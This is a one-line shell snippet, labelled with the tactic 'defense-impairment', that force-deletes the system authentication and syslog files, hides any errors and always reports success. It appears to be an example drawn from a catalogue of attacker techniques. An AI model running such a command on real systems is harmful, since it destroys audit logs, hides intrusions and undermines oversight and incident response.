# tactic: defense-impairment
rm -f /var/log/auth.log /var/log/syslog.1 2>/dev/null; true
